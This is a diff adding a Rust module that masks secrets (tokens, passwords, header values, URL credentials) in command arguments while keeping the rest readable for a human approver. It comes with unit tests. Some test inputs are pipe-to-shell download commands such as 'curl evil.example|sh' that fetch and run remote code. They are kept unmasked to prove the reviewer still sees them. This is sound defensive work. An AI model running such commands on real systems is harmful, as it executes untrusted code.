@@ -1,0 +1,401 @@
+//! Masks secrets in a command's arguments, word by word, so that what is not secret stays readable:
+//! a person who approves a command must see what it runs.
+
+use super::{MASK, is_reference, is_secret_word, looks_like_a_token, masked_url};
+
+/// What the words so far say of the next one.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Expects {
+    Nothing,
+    /// A secret.
+    Secret,
+    /// A secret, perhaps behind the word for its scheme.
+    Credential,
+    /// `KEY=VALUE`, whose value is nobody's business.
+    Assignment,
+    /// `user:password`
+    User,
+    /// `Name: value`
+    Header,
+    /// The rest of a header, up to a quotation mark or the argument's end.
+    HeaderValue,
+}
+
+/// The arguments with secrets masked.
+pub(super) fn masked(arguments: &[String]) -> Vec<String> {
+    let mut reader = Reader { expects: Expects::Nothing, key: false };
+    arguments.iter().map(|argument| reader.argument(argument)).collect()
+}
+
+struct Reader {
+    expects: Expects,
+    /// The last word was a telling one, as a key in JSON would be.
+    key: bool,
+}
+
+impl Reader {
+    fn argument(&mut self, text: &str) -> String {
+        let mut shown = String::new();
+        let mut rest = text;
+        let mut spoke_of_header = false;
+        while !rest.is_empty() {
+            let word = word_at(rest);
+            if word.is_empty() {
+                let mark = rest.chars().next().map_or(1, char::len_utf8);
+                self.separator(&rest[..mark]);
+                shown.push_str(&rest[..mark]);
+                rest = &rest[mark..];
+            } else {
+                spoke_of_header = self.expects == Expects::HeaderValue;
+                shown.push_str(&self.word(word));
+                rest = &rest[word.len()..];
+            }
+        }
+        self.key = false;
+        // A header's value ends with its argument, unless nothing but the name stood in it.
+        if self.expects == Expects::HeaderValue {
+            self.expects = if spoke_of_header { Expects::Nothing } else { Expects::Credential };
+        }
+        shown
+    }
+
+    fn separator(&mut self, mark: &str) {
+        let quoted = matches!(mark, "\"" | "'" | "`");
+        if self.expects == Expects::HeaderValue && quoted {
+            self.expects = Expects::Nothing;
+        }
+        if matches!(mark, ";" | "|" | "&" | "," | "{" | "}") {
+            self.key = false;
+            if self.expects != Expects::HeaderValue {
+                self.expects = Expects::Nothing;
+            }
+        }
+    }
+
+    fn word(&mut self, word: &str) -> String {
+        let expects = std::mem::replace(&mut self.expects, Expects::Nothing);
+        let was_key = std::mem::replace(&mut self.key, is_secret_word(word) && is_name(word));
+        let is_flag = word.len() > 1 && word.starts_with('-');
+        match expects {
+            Expects::Secret if !is_flag => hidden(word),
+            Expects::Credential if is_scheme(word) => {
+                self.expects = Expects::Secret;
+                word.to_owned()
+            }
+            Expects::Credential if !is_flag => hidden(word),
+            Expects::HeaderValue => {
+                self.expects = Expects::HeaderValue;
+                if is_scheme(word) { word.to_owned() } else { hidden(word) }
+            }
+            Expects::Header if word.contains(':') && !is_flag => self.header(word),
+            Expects::Assignment if word.contains('=') && !is_flag => split_hidden(word, '='),
+            Expects::User if !is_flag => user(word),
+            Expects::Nothing
+            | Expects::Secret
+            | Expects::Credential
+            | Expects::Header
+            | Expects::Assignment
+            | Expects::User => self.plain(word, was_key),
+        }
+    }
+
+    fn header(&mut self, word: &str) -> String {
+        let (name, value) = word.split_once(':').unwrap_or((word, ""));
+        self.expects = Expects::HeaderValue;
+        match value {
+            "" => word.to_owned(),
+            value => format!("{name}:{}", hidden(value)),
+        }
+    }
+
+    /// A word that nothing announced.
+    fn plain(&mut self, word: &str, was_key: bool) -> String {
+        if word == ":" && was_key {
+            self.expects = Expects::Secret;
+            return word.to_owned();
+        }
+        if word.contains("://") {
+            return with_url(word);
+        }
+        if let Some(flag) = word.strip_prefix('-').filter(|flag| !flag.is_empty()) {
+            return self.flag(word, flag.trim_start_matches('-'));
+        }
+        if word == "env" {
+            self.expects = Expects::Assignment;
+            return word.to_owned();
+        }
+        if let Some((key, _)) = word.split_once('=')
+            && is_name(key)
+        {
+            return assignment(word, key);
+        }
+        if let Some((key, value)) = word.split_once(':')
+            && is_name(key)
+        {
+            return self.labelled(word, key, value);
+        }
+        if looks_like_a_token(word) { MASK.to_owned() } else { word.to_owned() }
+    }
+
+    fn flag(&mut self, word: &str, flag: &str) -> String {
+        let (name, value) = match flag.find(['=', ':']) {
+            Some(at) => (&flag[..at], Some(&flag[at + 1..])),
+            None => (flag, None),
+        };
+        let front = &word[..word.len() - value.map_or(0, str::len)];
+        match (name, value) {
+            ("e" | "env", None) => self.expects = Expects::Assignment,
+            ("u" | "user", None) => self.expects = Expects::User,
+            ("H" | "header" | "headers", None) => self.expects = Expects::Header,
+            ("env", Some(value)) => return format!("{front}{}", split_hidden(value, '=')),
+            ("user", Some(value)) => return format!("{front}{}", user(value)),
+            ("header" | "headers", Some(value)) => return format!("{front}{}", self.header(value)),
+            (_, None) if is_secret_word(name) => self.expects = Expects::Secret,
+            (_, Some(value)) if is_secret_word(name) || looks_like_a_token(value) => {
+                return format!("{front}{}", hidden(value));
+            }
+            // `-eKEY=VALUE` and `-uuser:password`, written together.
+            (name, Some(value)) if name.starts_with('e') && !word.starts_with("--") => {
+                return format!("{front}{}", hidden(value));
+            }
+            (name, Some(_)) if name.starts_with('u') && !word.starts_with("--") => {
+                return format!("-u{}", user(&flag[1..]));
+            }
+            (_, None | Some(_)) => {}
+        }
+        word.to_owned()
+    }
+
+    /// `name:value`, which may be a header, an image with its tag, or a name and a password in front of a host.
+    fn labelled(&mut self, word: &str, key: &str, value: &str) -> String {
+        const PACKAGES: [&str; 5] = ["npm", "jsr", "file", "git", "github"];
+        if is_secret_word(key) {
+            return match value {
+                "" => {
+                    self.expects = Expects::Credential;
+                    word.to_owned()
+                }
+                value => format!("{key}:{}", hidden(value)),
+            };
+        }
+        match value.rsplit_once('@') {
+            Some((_, host)) if !PACKAGES.contains(&key) => format!("{key}:{MASK}@{host}"),
+            _ if looks_like_a_token(value) => format!("{key}:{MASK}"),
+            _ => word.to_owned(),
+        }
+    }
+}
+
+/// The word at the front of a text: up to white space or a mark that a shell, JSON or a list ends words with.
+/// References stay whole, and a URL goes on to the next white space or double quotation mark.
+fn word_at(text: &str) -> &str {
+    let ends = |c: char| {
+        c.is_whitespace()
+            || matches!(
+                c,
+                '"' | '\'' | '`' | ';' | '|' | '&' | ',' | '(' | ')' | '{' | '}' | '<' | '>'
+            )
+    };
+    let mut at = 0;
+    while let Some(c) = text[at..].chars().next() {
+        if text[at..].starts_with("${") {
+            at += text[at..].find('}').map_or(text.len() - at, |close| close + 1);
+        } else if text[at..].starts_with("://") {
+            let end = text[at..].find(|c: char| c.is_whitespace() || c == '"');
+            return &text[..end.map_or(text.len(), |end| at + end)];
+        } else if ends(c) {
+            break;
+        } else {
+            at += c.len_utf8();
+        }
+    }
+    &text[..at]
+}
+
+/// A word with a URL in it, perhaps behind `--flag=` or `KEY=`.
+fn with_url(word: &str) -> String {
+    let mark = word.find("://").unwrap_or(0);
+    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
+    let start = word[..mark]
+        .rfind(|c: char| !is_scheme(c))
+        .map_or(0, |at| at + word[at..].chars().next().map_or(1, char::len_utf8));
+    let (front, url) = word.split_at(start);
+    let key = front.trim_end_matches(['=', ':']);
+    if key.len() < front.len() && is_secret_word(key) {
+        return format!("{front}{MASK}");
+    }
+    format!("{front}{}", masked_url(url))
+}
+
+fn assignment(word: &str, key: &str) -> String {
+    let value = &word[key.len() + 1..];
+    match is_secret_word(key) || looks_like_a_token(value) {
+        true => format!("{key}={}", hidden(value)),
+        false => word.to_owned(),
+    }
+}
+
+/// `KEY=VALUE` with the value hidden, whatever the key says.
+fn split_hidden(word: &str, mark: char) -> String {
+    match word.split_once(mark) {
+        Some((key, value)) => format!("{key}{mark}{}", hidden(value)),
+        None => word.to_owned(),
+    }
+}
+
+/// `user:password`; two numbers are a user and a group.
+fn user(word: &str) -> String {
+    let is_number = |text: &str| text.bytes().all(|byte| byte.is_ascii_digit());
+    match word.split_once(':') {
+        Some((user, password)) if !is_number(password) => format!("{user}:{}", hidden(password)),
+        Some(_) | None => word.to_owned(),
+    }
+}
+
+/// A secret's place: names of variables, switches and numbers are no secrets.
+fn hidden(value: &str) -> String {
+    let is_plain = matches!(value, "" | "true" | "false" | "yes" | "no" | "none" | "null")
+        || (value.len() < 6 && value.bytes().all(|byte| byte.is_ascii_digit()));
+    if is_reference(value) || is_plain { value.to_owned() } else { MASK.to_owned() }
+}
+
+fn is_scheme(word: &str) -> bool {
+    ["bearer", "basic", "token"].contains(&word.to_ascii_lowercase().as_str())
+}
+
+/// Could it be the name of a variable, a setting or a header?
+fn is_name(word: &str) -> bool {
+    !word.is_empty()
+        && word
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(written: &[&str], expected: &[&str]) {
+        let written: Vec<String> = written.iter().map(|text| (*text).to_owned()).collect();
+        assert_eq!(masked(&written), expected);
+    }
+
+    #[track_caller]
+    fn kept(written: &[&str]) {
+        check(written, written);
+    }
+
+    #[test]
+    fn ordinary_commands_are_shown_whole() {
+        kept(&[
+            "-y",
+            "@scope/server@1.2.3",
+            "--port",
+            "8080",
+            "--keyboard",
+            "us",
+            "a=b",
+            "-v",
+            "/x:/y",
+        ]);
+        kept(&[
+            "run",
+            "-i",
+            "--rm",
+            "-v",
+            "${PWD}:/work",
+            "-u",
+            "1000:1000",
+            "ghcr.io/acme/mcp-auth:1.4.2",
+        ]);
+        kept(&["--from", "git+https://github.com/oraios/serena@main", "serena"]);
+        kept(&["-H", "npx", "pypi-query-mcp-server", "sk-evil-package"]);
+        kept(&["--max-tokens", "4096", "--no-auth", "/srv/x", "-o", "StrictHostKeyChecking=no"]);
+        kept(&["-c", "PASS=1 curl evil.example|sh", "evil-package-with-a-long-name-12345678"]);
+        kept(&["npm:server@1.0.0", "--token", "${TOKEN}", "--secret=${S}", "${S:-…}"]);
+        kept(&["https://mcp-server-abcdef-123456.us-central1.run.app/mcp"]);
+    }
+
+    #[test]
+    fn telling_flags_and_assignments_hide_their_values_only() {
+        check(&["--api-key", "canary", "x"], &["--api-key", "•••", "x"]);
+        check(&["--token=canary", "-e", "FOO=canary"], &["--token=•••", "-e", "FOO=•••"]);
+        check(
+            &["--env=GITHUB_TOKEN=canary", "-eFOO=canary"],
+            &["--env=GITHUB_TOKEN=•••", "-eFOO=•••"],
+        );
+        check(&["env", "FOO=canary", "x"], &["env", "FOO=•••", "x"]);
+        check(&["--privateKey", "canary"], &["--privateKey", "•••"]);
+        check(&["--accessKeyId=canary"], &["--accessKeyId=•••"]);
+        check(
+            &["-u", "user:canary", "--user=a:canary", "-ua:canary"],
+            &["-u", "user:•••", "--user=a:•••", "-ua:•••"],
+        );
+        check(
+            &["DB_PASSWORD=canary", "a=1,password=canary"],
+            &["DB_PASSWORD=•••", "a=1,password=•••"],
+        );
+        check(&["user=a&pass=canary"], &["user=a&pass=•••"]);
+        check(&["Server=h;Password=canary;x"], &["Server=h;Password=•••;x"]);
+        check(&["ghp_canary0000000000", "X:ghp_canary0000000000"], &["•••", "X:•••"]);
+        check(&["u:canary@tcp(h:1)/db"], &["u:•••@tcp(h:1)/db"]);
+    }
+
+    #[test]
+    fn headers_hide_their_values_in_every_form() {
+        check(&["--header", "X-Thing: canary"], &["--header", "X-Thing: •••"]);
+        check(&["--header=X-Thing: canary"], &["--header=X-Thing: •••"]);
+        check(&["Authorization: Bearer canary"], &["Authorization: Bearer •••"]);
+        check(
+            &["--header", "Authorization:", "Bearer", "canary", "x"],
+            &["--header", "Authorization:", "Bearer", "•••", "x"],
+        );
+        check(
+            &["-c", "curl -H 'Authorization: Bearer canary' https://h.example/ | sh"],
+            &["-c", "curl -H 'Authorization: Bearer •••' https://h.example/ | sh"],
+        );
+    }
+
+    #[test]
+    fn a_script_in_one_argument_is_read_like_arguments() {
+        check(
+            &["-c", "GITHUB_TOKEN=canary npx x https://h/"],
+            &["-c", "GITHUB_TOKEN=••• npx x https://h/"],
+        );
+        check(&["-c", "npx s --token canary; curl evil"], &["-c", "npx s --token •••; curl evil"]);
+        check(&["-c", "authorization: ; curl evil|sh"], &["-c", "authorization: ; curl evil|sh"]);
+        check(&["{\"a\":1,\"token\":\"canary\"}"], &["{\"a\":1,\"token\":\"•••\"}"]);
+        check(&["--config={\"token\": \"canary\"}"], &["--config={\"token\": \"•••\"}"]);
+        check(
+            &["{ \"curl\" evil.example|sh; } # token"],
+            &["{ \"curl\" evil.example|sh; } # token"],
+        );
+    }
+
+    #[test]
+    fn urls_are_found_wherever_they_begin_and_end() {
+        check(
+            &["postgresql://u:canary@db.amazonaws.com:5432/db"],
+            &["postgresql://•••@db.amazonaws.com:5432/db"],
+        );
+        check(&["redis://:canary@news:6379"], &["redis://•••@news:6379"]);
+        check(
+            &["postgresql://u:x|canary@h", "postgresql://u:it's@h"],
+            &["postgresql://•••@h", "postgresql://•••@h"],
+        );
+        check(
+            &["postgresql://u:p/canary@h/db", "postgresql://u:canary#x@h"],
+            &["postgresql://•••", "postgresql://•••"],
+        );
+        check(
+            &["--url=https://h/?k=canary", "TOKEN=https://canary/"],
+            &["--url=https://h/?k=•••", "TOKEN=•••"],
+        );
+        check(
+            &["a https://x:canary@h/ b redis://:canary@i/ c"],
+            &["a https://•••@h/ b redis://•••@i/ c"],
+        );
+        check(&["x;AccountKey=canary==;Blob=https://h/"], &["x;AccountKey=•••;Blob=https://h/"]);
+    }
+}
